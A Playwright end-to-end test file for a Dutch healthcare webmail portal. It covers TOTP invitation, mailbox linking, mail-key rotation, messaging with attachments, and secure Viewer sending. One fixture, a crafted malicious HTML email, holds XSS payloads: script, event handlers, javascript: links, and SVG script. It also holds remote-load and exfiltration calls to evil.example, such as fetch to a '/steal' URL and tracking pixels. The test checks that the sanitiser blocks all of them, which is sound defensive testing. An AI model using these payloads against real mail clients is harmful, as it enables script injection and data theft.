// The portal and webmail as a practice uses them, in headless Chromium against a real server
// (issue 5; SPEC R1–R5, R17, R21, R25): an invitation accepted with a TOTP code computed here
// (RFC 6238, independently of the server), two mailboxes linked with activation data, a Hosted Mail
// Key generated in the page that then works over IMAP (imapflow) while the old one does not, a
// message sent from one mailbox's webmail and read and answered with an attachment in the other's,
// and malicious HTML (from the corpus and crafted) that runs no script and loads nothing remote.
// Every page passes axe-core's WCAG 2.1 AA rules. Screenshots of the main screens go to
// $ZORGPOST_ARTIFACTS (default .artifacts/) for people to look at; they are not committed.
import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { simpleParser } from 'mailparser';
import type { Page } from 'playwright-core';
import { LoopbackBrowser, assertNoHorizontalScroll, expectHeading } from '../helpers/browser.ts';
import { connectImap, fetchSources } from '../helpers/clients.ts';
import { corpusUnavailable, listCorpus, readCorpusMessage } from '../helpers/corpus.ts';
import { startTestServer, type TestAccount, type TestServer } from '../helpers/harness.ts';
import { totp } from '../helpers/totp.ts';

const ROOT = new URL('../..', import.meta.url).pathname;
const ARTIFACTS = join(process.env.ZORGPOST_ARTIFACTS ?? join(ROOT, '.artifacts'), 'screenshots');
const EMAIL = 'dokter@delinde.nl';
const PASSWORD = 'een lange zin als wachtwoord';
const ATTACHMENT = Buffer.from('%PDF-1.4\n% uitslag laboratorium\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');

/** The crafted attack: script, event handlers, javascript: links, CSS exfiltration, remote images. */
const CRAFTED_HTML = [
  'From: Aanvaller <evil@elders.example>',
  'To: j.jansen@delinde.nl',
  'Subject: Gevaarlijke opmaak',
  'Message-ID: <crafted-1@elders.example>',
  'Date: Thu, 03 Dec 2026 10:00:00 +0100',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/r">',
  '<style>body { background: url(https://evil.example/css-bg.png) } @import url(https://evil.example/x.css);</style>',
  '<script>parent.document.title = "pwned"; fetch("https://evil.example/steal")</script></head>',
  '<body onload="parent.document.title=\'pwned\'">',
  '<p>Zichtbare tekst van de aanval</p>',
  '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  '<img src="x" onerror="parent.document.title=\'pwned\'">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<a href="javascript:parent.document.title=\'pwned\'">klik</a>',
  '<div style="background-image: url(https://evil.example/div.png)">achtergrond</div>',
  '<form action="https://evil.example/post"><input name="q"></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg><script>parent.document.title="pwned"</script><image href="https://evil.example/svg.png"/></svg>',
  '<object data="https://evil.example/o.swf"></object>',
  '</body></html>',
  '',
].join('\r\n');

describe('portal and webmail in a browser', { timeout: 300_000 }, () => {
  let server: TestServer;
  let browser: LoopbackBrowser;
  let page: Page;
  let jansen: TestAccount;
  let assistent: TestAccount;
  let base: string;
  let newKey = '';
  const enrolledSecrets = new Map<string, string>();

  const shot = async (name: string) => {
    await mkdir(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage: true });
  };
  const notice = (text: string | RegExp) => page.getByRole('status').filter({ hasText: text }).first().waitFor();

  before(async () => {
    server = await startTestServer();
    base = `https://127.0.0.1:${server.ports.https}`;
    jansen = await server.addMailbox('j.jansen@delinde.nl', 'Dr. J. Jansen');
    assistent = await server.addMailbox('assistent@delinde.nl', 'Assistent De Linde');
    browser = await LoopbackBrowser.launch();
    page = await browser.newPage();
  });

  after(async () => {
    await browser?.close('the portal and webmail');
    await server?.close();
  });

  it('accepts an invitation with a password and TOTP, and shows the recovery codes once', async () => {
    const invitation = await server.server.services.passage.invite({ email: EMAIL, role: 'operator' }, { actor: 'cli' });
    await page.goto(`${base}/invite${new URL(invitation.url).hash}`);
    await expectHeading(page, 'Uw Passage ID aanmaken');
    assert.equal(new URL(page.url()).hash, '', 'the token is taken out of the address bar');
    await browser.assertAxeClean(page, 'invitation');
    await shot('01-invitation');
    const secret = (await page.locator('.totp-secret').textContent())!.trim();
    enrolledSecrets.set(EMAIL, secret);
    await page.getByLabel('Nieuw wachtwoord').fill(PASSWORD);
    await page.getByLabel('Herhaal het wachtwoord').fill(PASSWORD);
    await page.getByLabel('Code uit de app').fill(totp(secret, new Date()));
    await page.getByRole('button', { name: 'Account aanmaken' }).click();
    await expectHeading(page, 'Uw herstelcodes');
    assert.equal(await page.locator('.recovery-codes li').count(), 10);
    await page.getByRole('button', { name: 'Ik heb de codes bewaard' }).click();
    await expectHeading(page, 'Mailboxen beheren');
    await page.getByText('Er is nog geen mailbox aan uw Passage ID gekoppeld.').waitFor();
  });

  it('links two mailboxes with their activation data', async () => {
    const { passage, identity } = server.server.services;
    // A refusal is told in the page's language (the service's reason, not its English sentence).
    await page.getByLabel('Klantnummer').fill(jansen.klantnummer);
    await page.getByLabel('Activatiecode').fill('ABCD-EFGH-JKLM');
    await page.getByRole('button', { name: 'Koppelen' }).click();
    await page.getByRole('alert').filter({ hasText: 'Klantnummer en activatiecode horen niet bij elkaar.' }).waitFor();
    for (const account of [jansen, assistent]) {
      const activation = await passage.issueActivation((await identity.requireMailbox(account.address))!, { actor: 'cli' });
      await page.getByLabel('Klantnummer').fill(activation.klantnummer);
      await page.getByLabel('Activatiecode').fill(activation.code);
      await page.getByRole('button', { name: 'Koppelen' }).click();
      await notice(`${account.address} is gekoppeld.`);
    }
    assert.equal(await page.locator('.mailbox-card').count(), 2);
    await browser.assertAxeClean(page, 'Mailboxen beheren');
    await shot('02-mailboxes');
    await page.setViewportSize({ width: 320, height: 640 });
    await assertNoHorizontalScroll(page, 'Mailboxen beheren at 320 px');
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  it('generates a Hosted Mail Key shown once; it works over IMAP and the old one no longer does', async () => {
    await page.getByRole('link', { name: `Beheer Hosted Mail Key ${jansen.address}` }).click();
    await expectHeading(page, `Beheer Hosted Mail Key: ${jansen.address}`);
    // The manual's settings summary with this server's real values.
    await page.getByRole('heading', { name: 'Instellingen voor uw e-mailprogramma' }).waitFor();
    const settings = await page.locator('.settings').textContent();
    assert.ok(settings!.includes(String(server.ports.imaps)) && settings!.includes(jansen.klantnummer) && settings!.includes('ou=se,dc=zorgmail'));
    await browser.assertAxeClean(page, 'mailbox management');
    // Replacing the key breaks every configured client: the page asks once more.
    await page.getByRole('button', { name: 'Genereren' }).click();
    await page.getByRole('button', { name: 'Ja, nieuwe key genereren' }).click();
    await page.getByRole('heading', { name: 'Uw nieuwe Hosted Mail Key' }).waitFor();
    await page.getByText('Deze key wordt maar één keer getoond en vervangt de vorige.').waitFor();
    newKey = (await page.locator('.secret-value').textContent())!.trim();
    await shot('03-hosted-mail-key');
    const imap = await connectImap(server, { user: jansen.klantnummer, pass: newKey });
    await imap.logout();
    await assert.rejects(connectImap(server, { user: jansen.klantnummer, pass: jansen.key }));
  });

  it('sends from one mailbox’s webmail; the other reads it and replies with an attachment', async () => {
    await page.goto(`${base}/mail/${jansen.mailboxId}`);
    await page.getByRole('navigation', { name: 'Mappen' }).getByRole('link', { name: /Postvak IN/ }).waitFor();
    await page.getByRole('button', { name: 'Nieuw bericht' }).click();
    await page.getByLabel('Aan', { exact: true }).fill(assistent.address);
    await page.locator('.class-community').filter({ hasText: assistent.address }).waitFor();
    await page.getByLabel('Onderwerp').fill('Overleg over de uitslag');
    await page.getByLabel('Bericht', { exact: true }).fill('Kun je de uitslag van mevrouw De Vries klaarzetten?');
    await browser.assertAxeClean(page, 'compose');
    await shot('04-compose');
    await page.getByRole('button', { name: 'Verzenden' }).click();
    await notice('Bericht verzonden.');

    // The other linked mailbox: from management ("Beheer" → the logo) to its webmail.
    await page.getByRole('link', { name: 'Zorgpost' }).click();
    await expectHeading(page, 'Mailboxen beheren');
    await page.getByRole('link', { name: `Webmail openen ${assistent.address}` }).click();
    await page.getByRole('button', { name: /Overleg over de uitslag/ }).click();
    await page.getByText('Kun je de uitslag van mevrouw De Vries klaarzetten?').waitFor();
    await browser.assertAxeClean(page, 'reading a message');
    await shot('05-webmail-reading');

    await page.getByRole('button', { name: 'Beantwoorden', exact: true }).click();
    assert.equal(await page.getByLabel('Onderwerp').inputValue(), 'Re: Overleg over de uitslag');
    await page.getByLabel('Bericht', { exact: true }).press('Control+Home');
    await page.getByLabel('Bericht', { exact: true }).pressSequentially('Staat klaar, zie bijlage.');
    await page.locator('input[type=file]').setInputFiles({ name: 'uitslag.pdf', mimeType: 'application/pdf', buffer: ATTACHMENT });
    await page.getByText('uitslag.pdf').first().waitFor();
    await page.getByRole('button', { name: 'Verzenden' }).click();
    await notice('Bericht verzonden.');

    const imap = await connectImap(server, { user: jansen.klantnummer, pass: newKey });
    try {
      const sources = await fetchSources(imap, 'INBOX');
      const replies = await Promise.all(sources.map(async ({ source }) => simpleParser(source)));
      const reply = replies.find((r) => r.subject === 'Re: Overleg over de uitslag');
      assert.ok(reply, 'the reply reached the first mailbox');
      assert.ok(reply.text?.startsWith('Staat klaar, zie bijlage.'));
      assert.ok(reply.inReplyTo, 'the reply is threaded (In-Reply-To)');
      assert.deepEqual(reply.attachments.map((a) => [a.filename, a.content.equals(ATTACHMENT)]), [['uitslag.pdf', true]]);
    } finally {
      await imap.logout();
    }
  });

  it('shows malicious HTML (corpus and crafted) without running script or loading anything remote', async () => {
    const { mail } = server.server.services;
    const inbox = (await mail.getFolder(jansen.mailboxId, 'INBOX'))!;
    const messages: Array<{ subject: RegExp; raw: Buffer }> = [{ subject: /Gevaarlijke opmaak/, raw: Buffer.from(CRAFTED_HTML) }];
    if (!corpusUnavailable()) {
      for (const entry of listCorpus().filter((e) => ['0417-sa-spam-badmime.eml', '0515-sa-welcomelists-netcenter-direct-de.eml'].includes(e.file))) {
        const raw = await readCorpusMessage(entry);
        const subject = /^Subject: (.*)$/im.exec(raw.toString('latin1'))?.[1]?.trim().slice(0, 20) ?? '';
        messages.push({ subject: new RegExp(subject.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')), raw });
      }
      assert.equal(messages.length, 3, 'the two corpus messages with remote images and forms');
    }
    for (const message of messages) await mail.append(inbox.id, message.raw);

    await page.goto(`${base}/mail/${jansen.mailboxId}`);
    const title = await page.title();
    for (const message of messages) {
      await page.locator('button.row').filter({ hasText: message.subject }).first().click();
      await page.locator('.message-subject').filter({ hasText: message.subject }).waitFor();
      const frameElement = page.locator('iframe.html-body');
      assert.equal(await frameElement.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
      const src = (await frameElement.getAttribute('src'))!;
      assert.ok(!src.includes('images=1'), 'remote images are off by default');
      await page.frameLocator('iframe.html-body').locator('body').waitFor({ state: 'attached' });
      const content = page.frames().find((frame) => frame.url().endsWith(src))!;
      assert.ok(content, 'the HTML body frame loaded');
      const active = await content.evaluate(() => {
        const doc = (globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ getAttributeNames(): string[]; getAttribute(n: string): string | null }> } }).document;
        const all = Array.from(doc.querySelectorAll('*'));
        return {
          scripts: doc.querySelectorAll('script, iframe, object, embed, form, meta[http-equiv]').length,
          handlers: all.flatMap((el) => el.getAttributeNames().filter((name) => name.startsWith('on'))),
          javascriptLinks: all.filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') ?? '')).length,
          remote: all.filter((el) => /^https?:/i.test(el.getAttribute('src') ?? '') || /url\(\s*['"]?https?:/i.test(el.getAttribute('style') ?? '')).length,
        };
      });
      assert.deepEqual(active, { scripts: 0, handlers: [], javascriptLinks: 0, remote: 0 }, `${message.subject}: nothing active or remote is left`);
      if (message.subject.source.startsWith('Gevaarlijke')) {
        await page.frameLocator('iframe.html-body').getByText('Zichtbare tekst van de aanval').waitFor();
        await page.getByText('Afbeeldingen van internet zijn geblokkeerd').waitFor();
        await shot('06-malicious-html-blocked');
      }
    }
    // Give any script a moment it should not get, then check nothing ran and nothing left 127.0.0.1.
    await page.waitForTimeout(500);
    assert.equal(await page.title(), title, 'no script changed the page');
    assert.deepEqual(browser.foreignRequests, [], 'nothing remote was loaded');
    await browser.assertAxeClean(page, 'webmail with a sanitised HTML message');
  });

  it('closes an open message with Back, and shows no mailbox that is not linked', async () => {
    await page.goto(`${base}/mail/${jansen.mailboxId}`);
    await page.locator('button.row').filter({ hasText: 'Re: Overleg over de uitslag' }).click();
    await page.locator('.message-subject').filter({ hasText: 'Re: Overleg over de uitslag' }).waitFor();
    assert.match(page.url(), /\?open=\d+$/);
    await page.goBack();
    await page.locator('.message-subject').waitFor({ state: 'detached' });
    assert.doesNotMatch(page.url(), /\?open=/);
    await page.goForward();
    await page.locator('.message-subject').filter({ hasText: 'Re: Overleg over de uitslag' }).waitFor();

    const other = await server.addMailbox('iemand@elders.nl', 'Iemand');
    await page.goto(`${base}/mail/${other.mailboxId}`);
    await expectHeading(page, 'Mailbox niet beschikbaar');
    await page.goto(`${base}/mailboxes/${other.mailboxId}`);
    await page.getByText('Deze mailbox is niet aan uw Passage ID gekoppeld.').waitFor();
  });

  it('signs out, signs in with password and TOTP, and serves the account and organisation pages', async () => {
    await page.getByRole('button', { name: 'Afmelden' }).click();
    await expectHeading(page, 'Inloggen met Passage ID');
    await browser.assertAxeClean(page, 'sign-in');
    await shot('07-sign-in');
    const secret = await totpSecretOf(EMAIL);
    await page.getByLabel('E-mailadres').fill(EMAIL);
    await page.getByLabel('Wachtwoord').fill('niet het wachtwoord');
    await page.getByLabel('Verificatiecode').fill(totp(secret, new Date(), 1));
    await page.getByRole('button', { name: 'Inloggen', exact: true }).click();
    await page.getByRole('alert').filter({ hasText: 'E-mailadres, wachtwoord of verificatiecode is onjuist.' }).waitFor();
    await page.getByLabel('Wachtwoord').fill(PASSWORD);
    await page.getByLabel('Verificatiecode').fill(totp(secret, new Date(), 1));
    await page.getByRole('button', { name: 'Inloggen', exact: true }).click();
    // Two linked mailboxes: the list, not the webmail (R4).
    await expectHeading(page, 'Mailboxen beheren');

    await page.getByRole('navigation', { name: 'Hoofdmenu' }).getByRole('link', { name: 'Account' }).click();
    await expectHeading(page, 'Account');
    await page.locator('.session-list li').first().waitFor();
    await browser.assertAxeClean(page, 'account');

    await page.getByRole('navigation', { name: 'Hoofdmenu' }).getByRole('link', { name: 'Organisatie' }).click();
    await expectHeading(page, 'Organisatie beheren');
    await page.getByLabel('E-mailadres', { exact: true }).fill('praktijkmanager@delinde.nl');
    await page.getByLabel('Rol').selectOption('admin');
    await page.getByLabel('Domein van de organisatie').fill('delinde.nl');
    await page.getByRole('button', { name: 'Uitnodiging maken' }).click();
    assert.match((await page.locator('.result .secret-value').textContent())!, /\/invite#/);
    await browser.assertAxeClean(page, 'organisation');

    await page.getByRole('button', { name: 'English' }).click();
    // The focus stays on the language button; only the words change.
    await page.getByRole('heading', { level: 1, name: 'Manage organisation' }).waitFor();
    assert.equal(await page.evaluate(() => (globalThis as unknown as { document: { documentElement: { lang: string } } }).document.documentElement.lang), 'en');
    await page.getByRole('button', { name: 'Deutsch' }).click();
    await page.getByRole('heading', { level: 1, name: 'Organisation verwalten' }).waitFor();
    await page.getByRole('button', { name: 'Nederlands' }).click();
  });

  it('sends securely through the Viewer from compose; Sent shows the status and revokes', async () => {
    await page.goto(`${base}/mail/${jansen.mailboxId}`);
    await page.getByRole('button', { name: 'Nieuw bericht' }).click();
    await page.getByLabel('Aan', { exact: true }).fill('Mevrouw De Vries <patient@voorbeeld.example>');
    // delinde.nl has the default install type viewer-06-controle: Viewer by default, SMS when a number is given.
    await page.locator('.class-viewer').filter({ hasText: 'patient@voorbeeld.example' }).waitFor();
    assert.equal(await page.getByLabel('Beveiligd verzenden via de Viewer').isChecked(), true);
    // A number that is none: refused in the page's language, and the send is held back.
    await page.getByLabel('Mobiel nummer van patient@voorbeeld.example').fill('123');
    await page.locator('.recipient-classes').getByText('Dit mobiele nummer is niet geldig.').waitFor();
    await page.getByLabel('Mobiel nummer van patient@voorbeeld.example').fill('06 1234 5678');
    await page.locator('.recipient-classes').getByText('Dit mobiele nummer is niet geldig.').waitFor({ state: 'detached' });
    await page.getByLabel('Onderwerp').fill('Uw uitslag');
    await page.getByLabel('Bericht', { exact: true }).fill('Beste mevrouw De Vries, uw uitslag is binnen.');
    await page.getByRole('button', { name: 'Concept opslaan' }).click();
    await notice('Concept opgeslagen.');
    await page.getByRole('navigation', { name: 'Mappen' }).getByRole('link', { name: /Concepten 1 ongelezen|Concepten/ }).waitFor();
    await shot('08-compose-secure');
    await page.getByRole('button', { name: 'Verzenden' }).click();
    await notice('Bericht verzonden.');

    await page.getByRole('navigation', { name: 'Mappen' }).getByRole('link', { name: /Verzonden/ }).click();
    await page.locator('button.row').filter({ hasText: 'Uw uitslag' }).click();
    await page.getByRole('heading', { name: 'Status beveiligd verzonden (Viewer)' }).waitFor();
    const status = page.locator('.viewer-status');
    await status.locator('strong', { hasText: 'patient@voorbeeld.example' }).waitFor();
    await status.getByText(/actief/).waitFor();
    await status.getByText(/Melding verstuurd/).waitFor();
    await browser.assertAxeClean(page, 'Sent with Viewer status');
    await shot('09-sent-viewer-status');
    await status.getByRole('button', { name: 'Nu intrekken patient@voorbeeld.example' }).click();
    await status.getByText(/ingetrokken/).first().waitFor();
    const [record] = await server.server.services.viewerMessages.list((await server.server.services.identity.requireMailbox(jansen.address))!);
    assert.equal(record?.state, 'revoked');

    // The draft was replaced by the sent message.
    await page.getByRole('navigation', { name: 'Mappen' }).getByRole('link', { name: /Concepten/ }).click();
    await page.getByText('Deze map is leeg.').waitFor();
  });

  /** The account's TOTP secret as the invitee enrolled it (read back for the sign-in step). */
  async function totpSecretOf(email: string): Promise<string> {
    return enrolledSecrets.get(email)!;
  }
});
